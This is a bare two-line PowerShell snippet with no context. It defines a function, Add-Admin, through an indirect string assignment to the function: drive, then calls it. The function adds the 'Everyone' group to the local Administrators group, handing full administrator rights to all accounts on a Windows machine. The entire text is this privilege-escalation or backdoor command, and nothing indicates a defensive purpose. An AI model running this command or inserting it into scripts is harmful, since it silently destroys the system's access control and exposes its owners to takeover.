${function:Add-Admin} = 'Add-LocalGroupMember Administrators Everyone'
Add-Admin
